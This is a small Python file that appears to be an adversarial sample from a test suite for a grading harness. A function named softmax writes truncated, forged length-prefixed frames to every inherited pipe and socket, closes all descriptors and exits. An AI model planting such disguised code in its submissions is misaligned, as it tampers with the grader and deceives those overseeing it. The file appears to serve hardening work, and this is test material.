"""Sends half a frame to every pipe, closes them all and dies.

tries: forge
earns: nothing
trace: none
"""

import os
import select
import stat
import struct

def pipes_and_sockets():
    """Every inherited descriptor that is a pipe or a socket; plain files are left alone."""
    found = []
    for fd in range(256):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode):
            found.append(fd)
    return found


def push(fd, data):
    """Write what fits now; never block, so that the attack is the bytes and not a hang."""
    try:
        if select.select([], [fd], [], 0)[1]:
            return os.write(fd, data)
    except (OSError, ValueError):
        pass
    return 0


def softmax(x, axis=-1):
    for fd in pipes_and_sockets():
        push(fd, struct.pack("!I", 64) + b"{")
        push(fd, struct.pack("<Q", 64) + b"{")
    os.closerange(0, 256)
    os._exit(0)
